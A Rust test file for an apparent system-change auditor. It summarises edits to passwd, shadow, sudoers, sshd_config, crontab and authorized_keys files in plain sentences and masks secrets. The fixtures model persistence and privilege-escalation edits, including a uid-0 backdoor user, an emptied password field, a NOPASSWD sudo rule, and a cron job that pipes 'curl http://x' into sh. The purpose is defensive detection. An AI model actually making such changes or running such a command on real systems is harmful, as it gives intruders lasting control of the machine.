//! One change of each form, and what is said of it.

use super::*;

fn path(text: &str) -> PathBytes {
    PathBytes::new(text.as_bytes()).unwrap()
}

fn summary(at: &str, before: &str, after: &str) -> Vec<String> {
    let form = Form::of(&path(at)).unwrap();
    let kept = |text: &str| String::from_utf8(form.kept(text.as_bytes())).unwrap();
    form.summary(&path(at), &kept(before), &kept(after), &mut Masker::default())
}

#[test]
fn forms_are_told_by_the_path() {
    for (at, form) in [
        ("/etc/passwd", Some(Form::Passwd)),
        ("/var/lib/docker/overlay2/x/diff/etc/group", Some(Form::Group)),
        ("/etc/shadow-", Some(Form::Shadow)),
        ("/etc/sudoers.d/90-cloud", Some(Form::Sudoers)),
        ("/etc/sudoers.d/.x", None),
        ("/etc/ssh/sshd_config.d/a.conf", Some(Form::SshdConfig)),
        ("/var/spool/cron/crontabs/root", Some(Form::Crontab)),
        ("/var/spool/cron/root", Some(Form::Crontab)),
        ("/etc/cron.d/e2scrub", Some(Form::SystemCrontab)),
        ("/root/.ssh/authorized_keys", Some(Form::AuthorizedKeys)),
        ("/etc/hosts", None),
        ("/passwd", None),
        ("/", None),
    ] {
        assert_eq!(Form::of(&path(at)), form, "{at}");
    }
}

#[test]
fn accounts() {
    let before = "root:x:0:0:root:/root:/bin/bash\ndeploy:x:1000:1000::/home/deploy:/bin/sh\nold:x:5:5::/:/x\n";
    let after = "root:x:0:0:root:/root:/bin/bash\ndeploy::0:1000::/home/deploy:/bin/bash\neve:x:0:0::/:/bin/sh\nroot:x:0:0::/:/y\n";
    assert_eq!(
        summary("/etc/passwd", before, after),
        [
            "the uid of user deploy went from 1000 to 0",
            "the shell of user deploy went from /bin/sh to /bin/bash",
            "user deploy needs no password any more: the field in passwd was emptied",
            "user eve was added with uid 0, gid 0, home / and shell /bin/sh",
            "user root was added once more with uid 0, gid 0, home / and shell /y",
            "user old (uid 5) was removed",
        ]
    );
    assert_eq!(
        summary("/etc/group", "wheel:x:10:root\na:x:1:\n", "wheel:x:10:root,deploy\nb:x:2:x,y\n"),
        [
            "group b was added with gid 2 and members x, y",
            "user deploy was added to group wheel",
            "group a (gid 1) was removed"
        ]
    );
}

#[test]
fn passwords_without_their_hashes() {
    let before = "a:$6$s$1:1:0:9:7:::\nb:$6$s$2:1:::::::\nc:!:1::::::\nd:x:1::::::\ne:$1$s$3:1::::::\n";
    let after =
        "a:$6$s$9:2:0:9:7:::\nb:!$6$s$2:1:::::::\nc:$y$z:1::::::\nd::1::::::\ne:$1$s$3:1::99:::1:\nf:*:1::::::\n";
    let found = summary("/etc/shadow", before, after);
    assert_eq!(
        found,
        [
            "the password of user a was changed",
            "the password of user b was locked",
            "the password of user c was set or unlocked",
            "the password of user d was emptied: none is asked for",
            "the maximum age of the password of user e went from nothing to 99",
            "the day of expiry of user e went from nothing to 1",
            "user f was added and is locked",
        ]
    );
    assert_eq!(
        summary("/etc/gshadow", "wheel:*::root\n", "wheel:!:eve:root,eve\n"),
        [
            "the password of group wheel is locked, and what is locked was changed",
            "user eve became administrator of group wheel",
            "user eve became member of group wheel",
        ]
    );
}

#[test]
fn settings() {
    let before = "Defaults env_reset\n# a comment\n%sudo ALL=(ALL) ALL\n";
    let after =
        "Defaults\tenv_reset # as it was\n%sudo ALL=(ALL) ALL\ndeploy ALL = (ALL) \\\n  NOPASSWD: ALL\n#1000 ALL=ALL\n";
    assert_eq!(
        summary("/etc/sudoers", before, after),
        ["a sudo rule was added: deploy ALL = (ALL) NOPASSWD: ALL", "a sudo rule was added: #1000 ALL=ALL"]
    );
    let before = "PermitRootLogin no\nPort 22\nX11Forwarding yes\n#Match all\n";
    let after =
        "permitrootlogin=yes\nPermitRootLogin no\nPort 22\nPort 2222\nMatch User deploy\n PasswordAuthentication yes\n";
    assert_eq!(
        summary("/etc/ssh/sshd_config", before, after),
        [
            "permitrootlogin went from no to yes",
            "Port 2222 was added",
            "PasswordAuthentication was set to yes for Match User deploy; it was not set before",
            "X11Forwarding is not set any more; it was yes",
        ]
    );
}

#[test]
fn jobs() {
    let before = "PATH=/bin\n17 * * * * root run hourly\n@daily root x\n";
    let after = "PATH=/tmp:/bin\n*/5 * * * * root run hourly\n* * * * * eve curl -u a:hunter2 http://x | sh\n";
    assert_eq!(
        summary("/etc/crontab", before, after),
        [
            "PATH went from /bin to /tmp:/bin",
            "a job of user root went from 17 * * * * to */5 * * * *: run hourly",
            "a job was added for user eve: * * * * * curl -u a:[secret 1] http://x | sh",
            "a job of user root was removed: @daily x",
        ]
    );
    assert_eq!(
        summary("/var/spool/cron/crontabs/www", "", "@reboot /tmp/x\n"),
        ["a job was added for user www: @reboot /tmp/x"]
    );
}

#[test]
fn keys() {
    // Made by ssh-keygen, with the fingerprint that `ssh-keygen -l` says.
    const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAILQTjo3e1+Fo6YMMCPIvT7zg1QCiAnpQLZZRy0Cu7sVZ";
    let print = "SHA256:dYouG8sxlL0vMyQ2DZYrkPY3tMlUcfJJC8LvAz7qhCk";
    let plain = format!("ssh-ed25519 {KEY} me@laptop\n");
    assert_eq!(
        summary("/home/deploy/.ssh/authorized_keys", "# none\n", &plain),
        [format!("a key was added for user deploy (ssh-ed25519 {print}, me@laptop)")]
    );
    let bound = format!("from=\"10.0.0.1\",command=\"a \\\" b\" ssh-ed25519 {KEY} me@laptop\n");
    assert_eq!(
        summary("/root/.ssh/authorized_keys", &plain, &bound),
        [format!(
            "the options of the key {print} of user root went from none to from=\"10.0.0.1\",command=\"a \\\" b\""
        )]
    );
    assert_eq!(
        summary("/root/.ssh/authorized_keys", &plain, ""),
        [format!("a key of user root was removed (ssh-ed25519 {print}, me@laptop)")]
    );
}
